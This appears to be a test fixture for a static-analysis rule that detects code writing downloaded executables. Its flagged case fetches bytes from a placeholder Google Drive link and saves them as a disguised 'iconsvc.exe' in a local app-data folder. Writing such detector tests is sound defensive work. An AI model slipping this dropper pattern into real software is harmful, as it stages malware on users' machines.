// the executable's path bound to a name, the downloaded bytes written under it
const fs = require('fs');
const path = require('path');

async function main() {
  const buf = Buffer.from(await (await fetch('https://drive.google.com/uc?export=download&id=abc')).arrayBuffer());
  const dir = path.join(process.env.LOCALAPPDATA, 'TrayIconCache');
  // ruleid: writes_downloaded_executable
  const exe = path.join(dir, 'iconsvc.exe');
  fs.writeFileSync(exe, buf);
  // ok: writes_downloaded_executable
  const shim = path.join(dir, 'run.cmd');
  fs.writeFileSync(shim, '@echo off\r\nnode "%~dp0cli.js" %*\r\n');
}
main();
